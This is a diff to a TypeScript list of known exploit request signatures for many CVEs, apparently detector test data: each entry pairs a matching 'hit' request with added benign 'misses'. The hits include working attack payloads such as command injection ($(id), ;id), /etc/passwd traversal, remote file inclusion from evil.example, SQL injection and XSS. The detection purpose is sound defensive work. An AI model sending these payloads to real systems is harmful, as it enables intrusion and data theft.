+      'GET /search?q=/a2billing/customer/templates/default/footer.tpl',
+      { referrer: 'https://www.example.com/a2billing/customer/templates/default/footer.tpl' },
+    ],
   },
   {
     name: 'fusionpbx-exec',
@@ -598,6 +966,10 @@ export default [
     path: '/app/operator_panel/exec.php',
     severity: 'high',
     hit: 'GET /app/operator_panel/exec.php?cmd=bg_system+id',
+    misses: [
+      'GET /app/operator_panel/exec.php-guide?cmd=bg_system+id',
+      'GET /search?q=/app/operator_panel/exec.php',
+    ],
   },
   {
     name: 'issabel-phpsysinfo',
@@ -607,6 +979,10 @@ export default [
     path: '/phpsysinfo/xml.php',
     severity: 'low',
     hit: 'GET /phpsysinfo/xml.php?plugin=complete&json',
+    misses: [
+      'GET /phpsysinfo/xml.php-guide?plugin=complete&json',
+      'GET /search?q=/phpsysinfo/xml.php',
+    ],
   },
   {
     name: 'webmin-password-change',
@@ -616,6 +992,7 @@ export default [
     path: '/password_change.cgi',
     severity: 'critical',
     hit: 'POST /password_change.cgi',
+    misses: ['POST /password_change.cgi-guide', 'GET /search?q=/password_change.cgi'],
   },
   {
     name: 'webmin-show',
@@ -624,6 +1001,10 @@ export default [
     cve: ['2006-3392'],
     path: '/unauthenticated/..*',
     hit: 'GET /unauthenticated/..%01/..%01/etc/passwd',
+    misses: [
+      'GET /search?q=/unauthenticated/..%01/..%01/etc/passwd',
+      { referrer: 'https://www.example.com/unauthenticated/..%01/..%01/etc/passwd' },
+    ],
   },
   {
     name: 'webmin-update',
@@ -633,6 +1014,7 @@ export default [
     path: '/package-updates/update.cgi',
     severity: 'medium',
     hit: 'POST /package-updates/update.cgi',
+    misses: ['POST /package-updates/update.cgi-guide', 'GET /search?q=/package-updates/update.cgi'],
   },
   {
     name: 'cwp-login-shell',
@@ -643,6 +1025,11 @@ export default [
     args: ['login=$'],
     severity: 'critical',
     hit: 'POST /login/index.php?login=$(id)',
+    misses: [
+      'POST /login/index.php-guide?login=$(id)',
+      'POST /login/index.php?login=list',
+      { referrer: 'https://www.example.com/login/index.php?login=$(id)' },
+    ],
   },
   {
     name: 'cwp-filemanager',
@@ -653,6 +1040,12 @@ export default [
     args: ['module=filemanager', 'acc=changePerm'],
     severity: 'critical',
     hit: 'POST /myuser/index.php?module=filemanager&acc=changePerm',
+    misses: [
+      'POST /myuser/index.php-guide?module=filemanager&acc=changePerm',
+      'POST /myuser/index.php?module=list&acc=changePerm',
+      'POST /myuser/index.php?module=filemanager&acc=list',
+      { referrer: 'https://www.example.com/myuser/index.php?module=filemanager&acc=changePerm' },
+    ],
   },
   {
     name: 'cwp-loader',
@@ -663,6 +1056,15 @@ export default [
     args: ['api', 'scripts'],
     severity: 'critical',
     hit: 'GET /user/loader.php?api=1&scripts=.%00./.%00./api/account_new_create',
+    misses: [
+      'GET /user/loader.php-guide?api=1&scripts=.%00./.%00./api/account_new_create',
+      'GET /user/loader.php?scripts=.%00./.%00./api/account_new_create',
+      'GET /user/loader.php?api=1',
+      {
+        referrer:
+          'https://www.example.com/user/loader.php?api=1&scripts=.%00./.%00./api/account_new_create',
+      },
+    ],
   },
   {
     name: 'cyberpanel-upgrademysql',
@@ -672,6 +1074,10 @@ export default [
     path: '/dataBases/upgrademysqlstatus',
     severity: 'critical',
     hit: 'OPTIONS /dataBases/upgrademysqlstatus',
+    misses: [
+      'OPTIONS /dataBases/upgrademysqlstatus-guide',
+      'GET /search?q=/dataBases/upgrademysqlstatus',
+    ],
   },
   {
     name: 'moodle-jmol',
@@ -682,6 +1088,14 @@ export default [
     args: ['call'],
     severity: 'high',
     hit: 'GET /filter/jmol/js/jsmol/php/jsmol.php?call=getRawDataFromDatabase&query=file:///etc/passwd',
+    misses: [
+      'GET /filter/jmol/js/jsmol/php/jsmol.php-guide?call=getRawDataFromDatabase&query=file:///etc/passwd',
+      'GET /filter/jmol/js/jsmol/php/jsmol.php?query=file:///etc/passwd',
+      {
+        referrer:
+          'https://www.example.com/filter/jmol/js/jsmol/php/jsmol.php?call=getRawDataFromDatabase&query=file:///etc/passwd',
+      },
+    ],
   },
   {
     name: 'chamilo-bigupload',
@@ -692,6 +1106,14 @@ export default [
     args: ['action=post-unsupported'],
     severity: 'critical',
     hit: 'POST /main/inc/lib/javascript/bigupload/inc/bigUpload.php?action=post-unsupported',
+    misses: [
+      'POST /main/inc/lib/javascript/bigupload/inc/bigUpload.php-guide?action=post-unsupported',
+      'POST /main/inc/lib/javascript/bigupload/inc/bigUpload.php?action=list',
+      {
+        referrer:
+          'https://www.example.com/main/inc/lib/javascript/bigupload/inc/bigUpload.php?action=post-unsupported',
+      },
+    ],
   },
   {
     name: 'chamilo-soap',
@@ -701,6 +1123,10 @@ export default [
     path: '/webservices/additional_webservices.php',
     severity: 'critical',
     hit: 'POST /main/webservices/additional_webservices.php',
+    misses: [
+      'POST /main/webservices/additional_webservices.php-guide',
+      'GET /search?q=/main/webservices/additional_webservices.php',
+    ],
   },
   {
     name: 'craft-cms-actions',
@@ -710,6 +1136,10 @@ export default [
     path: '/actions/assets/generate-transform',
     severity: 'critical',
     hit: 'POST /index.php/actions/assets/generate-transform',
+    misses: [
+      'POST /index.php/actions/assets/generate-transform-guide',
+      'GET /search?q=/index.php/actions/assets/generate-transform',
+    ],
   },
   {
     name: 'craft-template-path',
@@ -720,6 +1150,10 @@ export default [
     args: ['--templatesPath'],
     severity: 'critical',
     hit: 'GET /?--templatesPath=ftp://x:x@192.0.2.1/',
+    misses: [
+      'GET /?my_--templatesPath=ftp://x:x@192.0.2.1/',
+      { referrer: 'https://www.example.com/?--templatesPath=ftp://x:x@192.0.2.1/' },
+    ],
   },
   {
     name: 'bitrix-vote-upload',
@@ -729,6 +1163,10 @@ export default [
     path: '/bitrix/tools/vote/uf.php',
     severity: 'critical',
     hit: 'POST /bitrix/tools/vote/uf.php?attachId[ENTITY_TYPE]=CFileUploader',
+    misses: [
+      'POST /bitrix/tools/vote/uf.php-guide?attachId[ENTITY_TYPE]=CFileUploader',
+      'GET /search?q=/bitrix/tools/vote/uf.php',
+    ],
   },
   {
     name: 'bitrix-html-editor',
@@ -738,6 +1176,10 @@ export default [
     path: '/bitrix/tools/html_editor_action.php',
     severity: 'high',
     hit: 'POST /bitrix/tools/html_editor_action.php',
+    misses: [
+      'POST /bitrix/tools/html_editor_action.php-guide',
+      'GET /search?q=/bitrix/tools/html_editor_action.php',
+    ],
   },
   {
     name: 'bitrix-redirect',
@@ -747,6 +1189,11 @@ export default [
     path: '/bitrix/rk.php',
     args: ['goto~url'],
     hit: 'GET /bitrix/rk.php?goto=https://evil.example',
+    misses: [
+      'GET /bitrix/rk.php-guide?goto=https://evil.example',
+      'GET /bitrix/rk.php?goto=list',
+      { referrer: 'https://www.example.com/bitrix/rk.php?goto=https://evil.example' },
+    ],
   },
   {
     name: 'bitrix-redirect-2',
@@ -756,6 +1203,11 @@ export default [
     path: '/bitrix/redirect.php',
     args: ['goto~url'],
     hit: 'GET /bitrix/redirect.php?event1=&goto=https://evil.example',
+    misses: [
+      'GET /bitrix/redirect.php-guide?event1=&goto=https://evil.example',
+      'GET /bitrix/redirect.php?event1=&goto=list',
+      { referrer: 'https://www.example.com/bitrix/redirect.php?event1=&goto=https://evil.example' },
+    ],
   },
   {
     name: 'dedecms-plus-download',
@@ -765,6 +1217,14 @@ export default [
     path: '/plus/download.php',
     args: ['link'],
     hit: 'GET /plus/download.php?open=1&link=aHR0cHM6Ly93d3cuZXZpbC5leGFtcGxl',
+    misses: [
+      'GET /plus/download.php-guide?open=1&link=aHR0cHM6Ly93d3cuZXZpbC5leGFtcGxl',
+      'GET /plus/download.php?open=1',
+      {
+        referrer:
+          'https://www.example.com/plus/download.php?open=1&link=aHR0cHM6Ly93d3cuZXZpbC5leGFtcGxl',
+      },
+    ],
   },
   {
     name: 'showdoc-upload',
@@ -775,6 +1235,11 @@ export default [
     args: ['s=/home/page/uploadImg'],
     severity: 'critical',
     hit: 'POST /index.php?s=/home/page/uploadImg',
+    misses: [
+      'POST /index.php-guide?s=/home/page/uploadImg',
+      'POST /index.php?s=list',
+      { referrer: 'https://www.example.com/index.php?s=/home/page/uploadImg' },
+    ],
   },
   {
     name: 'horde-util',
@@ -784,6 +1249,11 @@ export default [
     path: '/util/barcode.php',
     args: ['type~dots'],
     hit: 'GET /util/barcode.php?type=../../../../etc/passwd%00',
+    misses: [
+      'GET /util/barcode.php-guide?type=../../../../etc/passwd%00',
+      'GET /util/barcode.php?type=list',
+      { referrer: 'https://www.example.com/util/barcode.php?type=../../../../etc/passwd%00' },
+    ],
   },
   {
     name: 'squirrelmail',
@@ -792,6 +1262,10 @@ export default [
     cve: ['2005-1924', '2003-0990'],
     path: '/plugins/gpg/',
     hit: 'GET /squirrelmail/plugins/gpg/modules/keyring_main.php',
+    misses: [
+      'GET /search?q=/squirrelmail/plugins/gpg/modules/keyring_main.php',
+      { referrer: 'https://www.example.com/squirrelmail/plugins/gpg/modules/keyring_main.php' },
+    ],
   },
   {
     name: 'openemr-fax',
@@ -801,6 +1275,10 @@ export default [
     path: '/portal/import_template.php',
     severity: 'high',
     hit: 'POST /portal/import_template.php?docid=x',
+    misses: [
+      'POST /portal/import_template.php-guide?docid=x',
+      'GET /search?q=/portal/import_template.php',
+    ],
   },
   {
     name: 'phpipam-sql',
@@ -809,6 +1287,10 @@ export default [
     cve: ['2022-23046'],
     path: '/app/admin/routing/edit-bgp-mapping-search.php',
     hit: 'POST /app/admin/routing/edit-bgp-mapping-search.php',
+    misses: [
+      'POST /app/admin/routing/edit-bgp-mapping-search.php-guide',
+      'GET /search?q=/app/admin/routing/edit-bgp-mapping-search.php',
+    ],
   },
   {
     name: 'limesurvey-read',
@@ -818,6 +1300,14 @@ export default [
     path: '/admin/filemanager/sa/getZipFile',
     args: ['path'],
     hit: 'GET /index.php/admin/filemanager/sa/getZipFile?path=/../../../../../../../etc/passwd',
+    misses: [
+      'GET /index.php/admin/filemanager/sa/getZipFile-guide?path=/../../../../../../../etc/passwd',
+      'GET /index.php/admin/filemanager/sa/getZipFile?my_path=/../../../../../../../etc/passwd',
+      {
+        referrer:
+          'https://www.example.com/index.php/admin/filemanager/sa/getZipFile?path=/../../../../../../../etc/passwd',
+      },
+    ],
   },
   {
     name: 'phpbb-viewtopic-highlight',
@@ -828,6 +1318,14 @@ export default [
     args: ['highlight~phpquote'],
     severity: 'critical',
     hit: 'GET /viewtopic.php?t=1&highlight=%2527%252esystem(chr(105))%252e%2527',
+    misses: [
+      'GET /viewtopic.php-guide?t=1&highlight=%2527%252esystem(chr(105))%252e%2527',
+      'GET /viewtopic.php?t=1&highlight=list',
+      {
+        referrer:
+          'https://www.example.com/viewtopic.php?t=1&highlight=%2527%252esystem(chr(105))%252e%2527',
+      },
+    ],
   },
   {
     name: 'phpbb-root-path',
@@ -838,6 +1336,13 @@ export default [
     args: ['phpbb_root_path~url'],
     severity: 'high',
     hit: 'GET /includes/functions.php?phpbb_root_path=http://evil.example/x?',
+    misses: [
+      'GET /includes/functions.php?phpbb_root_path=list',
+      {
+        referrer:
+          'https://www.example.com/includes/functions.php?phpbb_root_path=http://evil.example/x?',
+      },
+    ],
   },
   {
     name: 'mambo-absolute-path',
@@ -848,6 +1353,13 @@ export default [
     args: ['mosConfig_absolute_path'],
     severity: 'high',
     hit: 'GET /index.php?mosConfig_absolute_path=http://evil.example/cmd.txt?',
+    misses: [
+      'GET /index.php?my_mosConfig_absolute_path=http://evil.example/cmd.txt?',
+      {
+        referrer:
+          'https://www.example.com/index.php?mosConfig_absolute_path=http://evil.example/cmd.txt?',
+      },
+    ],
   },
   {
     name: 'coppermine-include',
@@ -857,6 +1369,13 @@ export default [
     path: '/',
     args: ['PGV_BASE_DIRECTORY'],
     hit: 'GET /phpGedView/index.php?PGV_BASE_DIRECTORY=http://evil.example/',
+    misses: [
+      'GET /phpGedView/index.php?my_PGV_BASE_DIRECTORY=http://evil.example/',
+      {
+        referrer:
+          'https://www.example.com/phpGedView/index.php?PGV_BASE_DIRECTORY=http://evil.example/',
+      },
+    ],
   },
   {
     name: 'xmlrpc-pear',
@@ -865,6 +1384,7 @@ export default [
     cve: ['2005-1921'],
     path: '/adxmlrpc.php',
     hit: 'POST /phpadsnew/adxmlrpc.php',
+    misses: ['POST /phpadsnew/adxmlrpc.php-guide', 'GET /search?q=/phpadsnew/adxmlrpc.php'],
   },
   {
     name: 'xmlrpc-pear-blogs',
@@ -873,6 +1393,7 @@ export default [
     cve: ['2005-1921'],
     path: '/xmlsrv/xmlrpc.php',
     hit: 'POST /blog/xmlsrv/xmlrpc.php',
+    misses: ['POST /blog/xmlsrv/xmlrpc.php-guide', 'GET /search?q=/blog/xmlsrv/xmlrpc.php'],
   },
   {
     name: 'xmlrpc-services',
@@ -881,6 +1402,7 @@ export default [
     cve: ['2005-1921'],
     path: '/xmlrpc/xmlrpc.php',
     hit: 'POST /xmlrpc/xmlrpc.php',
+    misses: ['POST /xmlrpc/xmlrpc.php-guide', 'GET /search?q=/xmlrpc/xmlrpc.php'],
   },
   {
     name: 'awstats-configdir',
@@ -891,6 +1413,11 @@ export default [
     args: ['configdir'],
     severity: 'high',
     hit: 'GET /cgi-bin/awstats.pl?configdir=|echo;id;echo|',
+    misses: [
+      'GET /cgi-bin/awstats.pl-guide?configdir=|echo;id;echo|',
+      'GET /cgi-bin/awstats.pl?my_configdir=|echo;id;echo|',
+      { referrer: 'https://www.example.com/cgi-bin/awstats.pl?configdir=|echo;id;echo|' },
+    ],
   },
   {
     name: 'awstats-migrate',
@@ -901,6 +1428,11 @@ export default [
     args: ['migrate~shell'],
     severity: 'high',
     hit: 'GET /awstats.pl?migrate=|id;exit',
+    misses: [
+      'GET /awstats.pl-guide?migrate=|id;exit',
+      'GET /awstats.pl?migrate=list',
+      { referrer: 'https://www.example.com/awstats.pl?migrate=|id;exit' },
+    ],
   },
   {
     name: 'awstats-logfile',
@@ -910,6 +1442,11 @@ export default [
     path: '/awstats.pl',
     args: ['pluginmode'],
     hit: 'GET /cgi-bin/awstats.pl?pluginmode=:system(id)',
+    misses: [
+      'GET /cgi-bin/awstats.pl-guide?pluginmode=:system(id)',
+      'GET /cgi-bin/awstats.pl?my_pluginmode=:system(id)',
+      { referrer: 'https://www.example.com/cgi-bin/awstats.pl?pluginmode=:system(id)' },
+    ],
   },
   {
     name: 'phpmyadmin-backdoor',
@@ -919,6 +1456,10 @@ export default [
     path: '/server_sync.php',
     severity: 'high',
     hit: 'POST /phpmyadmin/server_sync.php?c=phpinfo()',
+    misses: [
+      'POST /phpmyadmin/server_sync.php-guide?c=phpinfo()',
+      'GET /search?q=/phpmyadmin/server_sync.php',
+    ],
   },
   {
     name: 'dompdf-input',
@@ -928,6 +1469,13 @@ export default [
     path: '/dompdf.php',
     args: ['input_file'],
     hit: 'GET /dompdf.php?input_file=php://filter/resource=/etc/passwd',
+    misses: [
+      'GET /dompdf.php-guide?input_file=php://filter/resource=/etc/passwd',
+      'GET /dompdf.php?my_input_file=php://filter/resource=/etc/passwd',
+      {
+        referrer: 'https://www.example.com/dompdf.php?input_file=php://filter/resource=/etc/passwd',
+      },
+    ],
   },
   {
     name: 'timthumb-webshot',
@@ -937,6 +1485,15 @@ export default [
     path: '/timthumb.php',
     args: ['webshot', 'src'],
     hit: 'GET /wp-content/themes/x/timthumb.php?webshot=1&src=http://evil.example/$(id)',
+    misses: [
+      'GET /wp-content/themes/x/timthumb.php-guide?webshot=1&src=http://evil.example/$(id)',
+      'GET /wp-content/themes/x/timthumb.php?src=http://evil.example/$(id)',
+      'GET /wp-content/themes/x/timthumb.php?webshot=1',
+      {
+        referrer:
+          'https://www.example.com/wp-content/themes/x/timthumb.php?webshot=1&src=http://evil.example/$(id)',
+      },
+    ],
   },
   {
     name: 'oscommerce-file-manager',
@@ -946,6 +1503,10 @@ export default [
     path: '/file_manager.php/login.php',
     severity: 'high',
     hit: 'POST /admin/file_manager.php/login.php?action=processuploads',
+    misses: [
+      'POST /admin/file_manager.php/login.php-guide?action=processuploads',
+      'GET /search?q=/admin/file_manager.php/login.php',
+    ],
   },
   {
     name: 'oscommerce-banner',
@@ -955,6 +1516,10 @@ export default [
     path: '/banner_manager.php/login.php',
     severity: 'high',
     hit: 'POST /admin/banner_manager.php/login.php?action=insert',
+    misses: [
+      'POST /admin/banner_manager.php/login.php-guide?action=insert',
+      'GET /search?q=/admin/banner_manager.php/login.php',
+    ],
   },
   {
     name: 'zencart-record-company',
@@ -964,6 +1529,10 @@ export default [
     path: '/record_company.php/password_forgotten.php',
     severity: 'high',
     hit: 'POST /admin/record_company.php/password_forgotten.php?action=insert',
+    misses: [
+      'POST /admin/record_company.php/password_forgotten.php-guide?action=insert',
+      'GET /search?q=/admin/record_company.php/password_forgotten.php',
+    ],
   },
   {
     name: 'open-flash-chart',
@@ -974,6 +1543,11 @@ export default [
     args: ['name'],
     severity: 'high',
     hit: 'POST /php-ofc-library/ofc_upload_image.php?name=x.php',
+    misses: [
+      'POST /php-ofc-library/ofc_upload_image.php-guide?name=x.php',
+      'POST /php-ofc-library/ofc_upload_image.php?my_name=x.php',
+      { referrer: 'https://www.example.com/php-ofc-library/ofc_upload_image.php?name=x.php' },
+    ],
   },
   {
     name: 'joomla-jtag-read',
@@ -983,6 +1557,15 @@ export default [
     path: '/index.php',
     args: ['option=com_jtagmembersdirectory', 'download_file'],
     hit: 'GET /index.php?option=com_jtagmembersdirectory&task=attachment&download_file=../../../../etc/passwd',
+    misses: [
+      'GET /index.php-guide?option=com_jtagmembersdirectory&task=attachment&download_file=../../../../etc/passwd',
+      'GET /index.php?option=list&task=attachment&download_file=../../../../etc/passwd',
+      'GET /index.php?option=com_jtagmembersdirectory&task=attachment',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_jtagmembersdirectory&task=attachment&download_file=../../../../etc/passwd',
+      },
+    ],
   },
   {
     name: 'prestashop-bamegamenu',
@@ -991,6 +1574,10 @@ export default [
     cve: ['2018-8823'],
     path: '/modules/bamegamenu/ajax_phpcode.php',
     hit: 'POST /modules/bamegamenu/ajax_phpcode.php',
+    misses: [
+      'POST /modules/bamegamenu/ajax_phpcode.php-guide',
+      'GET /search?q=/modules/bamegamenu/ajax_phpcode.php',
+    ],
   },
   {
     name: 'nagiosql-commandline',
@@ -1000,6 +1587,14 @@ export default [
     path: '/nagiosql/admin/commandline.php',
     args: ['cname~quote'],
     hit: 'GET /nagiosql/admin/commandline.php?cname=%27%20union%20select%201',
+    misses: [
+      'GET /nagiosql/admin/commandline.php-guide?cname=%27%20union%20select%201',
+      'GET /nagiosql/admin/commandline.php?cname=list',
+      {
+        referrer:
+          'https://www.example.com/nagiosql/admin/commandline.php?cname=%27%20union%20select%201',
+      },
+    ],
   },
   {
     name: 'librenms-capture',
@@ -1010,6 +1605,14 @@ export default [
     args: ['id=capture'],
     severity: 'high',
     hit: 'GET /ajax_output.php?id=capture&format=text&type=snmpwalk&hostname=localhost',
+    misses: [
+      'GET /ajax_output.php-guide?id=capture&format=text&type=snmpwalk&hostname=localhost',
+      'GET /ajax_output.php?id=list&format=text&type=snmpwalk&hostname=localhost',
+      {
+        referrer:
+          'https://www.example.com/ajax_output.php?id=capture&format=text&type=snmpwalk&hostname=localhost',
+      },
+    ],
   },
   {
     name: 'rconfig-search',
@@ -1019,6 +1622,14 @@ export default [
     path: '/lib/crud/search.crud.php',
     args: ['catCommand~shell'],
     hit: 'GET /lib/crud/search.crud.php?searchTerm=x&catCommand=%22%22%26%26id',
+    misses: [
+      'GET /lib/crud/search.crud.php-guide?searchTerm=x&catCommand=%22%22%26%26id',
+      'GET /lib/crud/search.crud.php?searchTerm=x&catCommand=list',
+      {
+        referrer:
+          'https://www.example.com/lib/crud/search.crud.php?searchTerm=x&catCommand=%22%22%26%26id',
+      },
+    ],
   },
   {
     name: 'freepbx-ajax-sql',
@@ -1029,6 +1640,14 @@ export default [
     args: ['module=FreePBX'],
     severity: 'critical',
     hit: 'GET /admin/ajax.php?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&command=model&template=x&brand=x%27',
+    misses: [
+      'GET /admin/ajax.php-guide?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&command=model&template=x&brand=x%27',
+      'GET /admin/ajax.php?module=list&command=model&template=x&brand=x%27',
+      {
+        referrer:
+          'https://www.example.com/admin/ajax.php?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&command=model&template=x&brand=x%27',
+      },
+    ],
   },
   {
     name: 'cyberpanel-getresetstatus',
@@ -1038,6 +1657,7 @@ export default [
     path: '/getresetstatus',
     severity: 'critical',
     hit: 'OPTIONS /dns/getresetstatus',
+    misses: ['OPTIONS /dns/getresetstatus-guide', 'GET /search?q=/dns/getresetstatus'],
   },
   {
     name: 'craft-cms-image',
@@ -1048,6 +1668,11 @@ export default [
     args: ['p=admin/actions/assets/generate-transform'],
     severity: 'critical',
     hit: 'GET /index.php?p=admin/actions/assets/generate-transform',
+    misses: [
+      'GET /index.php?p=list',
+      'GET /index.php?my_p=admin/actions/assets/generate-transform',
+      { referrer: 'https://www.example.com/index.php?p=admin/actions/assets/generate-transform' },
+    ],
   },
   {
     name: 'dedecms-recommend-sql',
@@ -1057,6 +1682,14 @@ export default [
     path: '/plus/recommend.php',
     args: ['_FILES[type][tmp_name]'],
     hit: 'GET /plus/recommend.php?action=&aid=1&_FILES[type][tmp_name]=%27x',
+    misses: [
+      'GET /plus/recommend.php-guide?action=&aid=1&_FILES[type][tmp_name]=%27x',
+      'GET /plus/recommend.php?action=&aid=1',
+      {
+        referrer:
+          'https://www.example.com/plus/recommend.php?action=&aid=1&_FILES[type][tmp_name]=%27x',
+      },
+    ],
   },
   {
     name: 'cpanel-webcall-xss',
@@ -1065,6 +1698,13 @@ export default [
     cve: ['2023-29489'],
     path: '/cpanelwebcall/<*',
     hit: 'GET /cpanelwebcall/%3Cimg%20src=x%20onerror=%22prompt(1)%22%3Eaaaaaaaaaaaa',
+    misses: [
+      'GET /search?q=/cpanelwebcall/%3Cimg%20src=x%20onerror=%22prompt(1)%22%3Eaaaaaaaaaaaa',
+      {
+        referrer:
+          'https://www.example.com/cpanelwebcall/%3Cimg%20src=x%20onerror=%22prompt(1)%22%3Eaaaaaaaaaaaa',
+      },
+    ],
   },
   {
     name: 'joomla-jce-profiles',
@@ -1074,6 +1714,12 @@ export default [
     path: '/index.php',
     args: ['option=com_jce', 'task=profiles.import'],
     hit: 'POST /index.php?option=com_jce&task=profiles.import',
+    misses: [
+      'POST /index.php-guide?option=com_jce&task=profiles.import',
+      'POST /index.php?option=list&task=profiles.import',
+      'POST /index.php?option=com_jce&task=list',
+      { referrer: 'https://www.example.com/index.php?option=com_jce&task=profiles.import' },
+    ],
   },
   {
     name: 'cacti-remote-agent',
@@ -1084,5 +1730,13 @@ export default [
     args: ['action=polldata'],
     severity: 'critical',
     hit: 'GET /cacti/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=;id',
+    misses: [
+      'GET /cacti/remote_agent.php-guide?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=;id',
+      'GET /cacti/remote_agent.php?action=list&local_data_ids[0]=6&host_id=1&poller_id=;id',
+      {
+        referrer:
+          'https://www.example.com/cacti/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=;id',
+      },
+    ],
   },
 ] as const satisfies readonly KnownRequest[]
